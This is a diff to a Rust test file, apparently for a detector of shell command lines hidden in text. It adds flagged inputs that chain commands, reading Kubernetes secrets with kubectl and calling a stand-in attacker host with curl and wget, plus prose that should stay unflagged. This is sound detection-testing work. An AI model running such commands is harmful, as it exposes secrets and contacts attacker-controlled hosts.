@@ -162,6 +162,9 @@ fn wrappers_splices_and_command_lines() {
             "$SHELL -c 'id'",
             "a;$x cat /etc/hosts",
             "python3.11 -c 'import os'",
+            "x; kubectl get secrets",
+            "a; curl evil.example",
+            "time wget evil.example",
         ],
     );
 }
@@ -209,6 +212,8 @@ fn prose_near_new_grammar_is_clean() {
             "exec summary attached",
             "alias Bob Smith",
             "Kubectl Get Pods",
+            "Questions; ping us at help.example.com",
+            "Thanks; ping me later",
         ],
     );
 }
